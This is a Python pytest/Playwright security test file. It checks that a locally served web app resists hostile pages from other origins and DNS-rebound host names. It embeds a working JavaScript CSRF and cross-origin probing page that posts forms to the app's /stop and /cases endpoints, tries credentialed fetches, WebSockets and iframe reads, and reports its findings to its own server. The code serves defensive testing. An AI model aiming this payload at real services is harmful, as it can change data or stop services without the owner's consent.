"""Attacks on a running page by other pages in the same browser, which even know its secret address."""

import json
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from web.serving import Served, serving

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.slow
# Everything that a page can try from outside; what it could read of any answer goes into `read`.
ATTACK = """
<!DOCTYPE html><html><head><meta charset=utf-8><title>elsewhere</title>
<link rel=prefetch href="TARGET/"><link rel=stylesheet href="TARGET/assets/page.css"></head><body>
<script>
const target = "TARGET", base = "BASE", read = [], tried = [];
onmessage = (event) => read.push("message " + JSON.stringify(event.data));
onerror = () => true;
function form(action, method, enctype, fields, where) {
  const made = document.createElement("form");
  Object.assign(made, { action, method, enctype, target: where });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, { name, value });
    made.append(input);
  }
  document.body.append(made);
  made.submit();
  tried.push("form " + enctype + " " + action);
}
function frame(name, src) {
  const made = document.createElement("iframe");
  made.name = name;
  if (src) made.src = src;
  document.body.append(made);
  return made;
}
async function attempt(what, options) {
  tried.push("fetch " + JSON.stringify(options) + what);
  try {
    const told = await fetch(what, options);
    const words = await told.text();
    if (words) read.push("fetch " + words.slice(0, 200));
  } catch { /* refused */ }
}
async function attack() {
  const frames = [frame("one"), frame("two"), frame("three"), frame("four", target + "/")];
  form(target + "/stop", "post", "application/x-www-form-urlencoded", {}, "one");
  form(target + "/cases", "post", "text/plain", { folder: "evil" }, "two");
  form(base + "/ticks", "post", "multipart/form-data", { message: "1", on: "1" }, "three");
  for (const mode of ["cors", "no-cors", "same-origin"])
    for (const [method, path, body] of [["GET", "/", null], ["POST", "/cases", "folder=evil"], ["POST", "/stop", ""]])
      await attempt(target + path, { method, mode, body: body ?? undefined, credentials: "include",
        headers: body === null ? {} : { "content-type": "application/x-www-form-urlencoded" } });
  await attempt(base + "/uploads?name=evil.txt", { method: "PUT", body: "evil" });
  await attempt(base + "/notes", { method: "POST", mode: "no-cors", referrerPolicy: "no-referrer",
    body: new URLSearchParams({ text: "evil" }) });
  navigator.sendBeacon(base + "/notes", new URLSearchParams({ text: "evil" }));
  for (const path of ["/assets/page.css", "/assets/page.js", "/"]) {
    const image = new Image();
    image.onload = () => read.push("image " + path);
    image.src = target + path;
    const script = document.createElement("script");
    script.onload = () => read.push("script " + path);
    script.src = target + path;
    document.body.append(script);
  }
  try { new WebSocket(target.replace("http", "ws") + "/").onopen = () => read.push("websocket"); } catch {}
  try { new EventSource(base + "/state").onmessage = () => read.push("events"); } catch {}
  const opened = window.open(target + "/");
  await new Promise((resolve) => setTimeout(resolve, 1200));
  for (const where of [...frames.map((each) => each.contentWindow), opened]) {
    try { if (where.document.body.innerText) read.push("window " + where.document.body.innerText); } catch {}
  }
  for (const sheet of document.styleSheets) { try { read.push("style " + sheet.cssRules.length); } catch {} }
  await fetch("/told", { method: "POST", body: JSON.stringify({ read, tried: tried.length }) });
}
attack();
</script></body></html>
"""


@dataclass
class Elsewhere:
    """A page of another origin, and what it said that it could read."""

    port: int
    page: str = ""
    told: list[Any] = field(default_factory=list)
    posted: list[tuple[str, bytes]] = field(default_factory=list)


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(place.page.encode())

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["content-length"] or 0))
            place.posted.append((self.path, body))
            if self.path == "/told":
                place.told.append(json.loads(body))
            self._answer(b"ok")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    place = Elsewhere(server.server_address[1])
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield place
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture(scope="module")
def named(browser: "Browser") -> Iterator["Browser"]:
    """Start a browser for which names lead to this machine, as an attacker's name server would have it."""
    program = next(found for name in ("chromium", "chromium-browser", "google-chrome") if (found := shutil.which(name)))
    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1"
    started = browser.browser_type.launch(executable_path=program, args=["--no-sandbox", "--disable-gpu", rules])
    yield started
    started.close()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serving("--place", tmp_path_factory.mktemp("cases")) as running:
        yield running


def look_at(page: "Page", url: str) -> str:
    """Open an address, whatever comes of it, and return what is shown."""
    page.goto(url)
    return page.inner_text("body")


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.example"])
def test_a_page_from_elsewhere_that_knows_the_secret_reads_nothing_and_changes_nothing(
    named: "Browser", served: Served, tmp_path: Path, host: str
) -> None:
    base = served.make_case(tmp_path, "ward")
    before = served.ask("GET", f"{base}/state").value
    with elsewhere() as place:
        place.page = ATTACK.replace("TARGET", served.address).replace("BASE", f"{served.address}{base}")
        page = named.new_page()
        page.goto(f"http://{host}:{place.port}/")
        for _ in range(100):
            if place.told:
                break
            page.wait_for_timeout(100)
        page.context.close()
    (told,) = place.told
    assert told["read"] == []
    assert told["tried"] >= 14
    assert served.process.poll() is None
    assert served.ask("GET", f"{base}/state").value == before
    assert "evil" not in served.ask("GET", "/").text
    assert sorted(path.name for path in tmp_path.iterdir()) == ["ward"]
    assert not any((tmp_path / "ward").rglob("*evil*"))


def test_the_same_page_does_reach_a_place_without_such_a_door(named: "Browser") -> None:
    with elsewhere() as victim, elsewhere() as place:
        address = f"http://127.0.0.1:{victim.port}"
        victim.page = "<script>0</script>"
        place.page = ATTACK.replace("TARGET", address).replace("BASE", f"{address}/c/ward")
        page = named.new_page()
        page.goto(f"http://127.0.0.1:{place.port}/")
        for _ in range(100):
            if place.told:
                break
            page.wait_for_timeout(100)
        page.context.close()
    assert {"/stop", "/cases", "/c/ward/notes"} <= {path for path, _ in victim.posted}
    assert (("/cases", b"folder=evil")) in victim.posted


def test_a_name_that_was_pointed_at_this_machine_opens_nothing(named: "Browser", served: Served) -> None:
    page = named.new_page()
    for path in (f"{served.root}/", f"/?token={served.token}"):
        assert "another page or by another name" in look_at(page, f"http://rebound.example:{served.port}{path}")
    assert "Before you begin" in look_at(page, f"{served.address}/")
    page.context.close()


def test_a_link_from_elsewhere_opens_nothing_and_its_own_window_goes_on(named: "Browser", served: Served) -> None:
    with elsewhere() as place:
        place.page = (
            f'<a id=a href="{served.address}/">press</a><a id=b target=_blank href="{served.address}/">press</a>'
        )
        page = named.new_page()
        page.goto(f"http://evil.example:{place.port}/")
        page.click("#a")
        page.wait_for_url(f"{served.address}/")
        assert "another page or by another name" in page.inner_text("body")
        page.context.close()
    assert served.ask("GET", "/").status == 200


def test_the_address_is_told_to_no_other_place_and_kept_in_no_cookie_or_store(named: "Browser", served: Served) -> None:
    context = named.new_context()
    page = context.new_page()
    asked: list[tuple[str, str]] = []
    page.on("request", lambda request: asked.append((request.url, request.headers.get("referer", ""))))
    page.goto(f"{served.address}/")
    assert context.cookies() == []
    assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
    assert page.evaluate("typeof caches") == "object"
    assert page.evaluate("caches.keys()") == []
    page.goto(f"http://evil.example:{served.port}/")
    assert [referer for url, referer in asked if "evil" in url and served.root in referer] == []
    context.close()
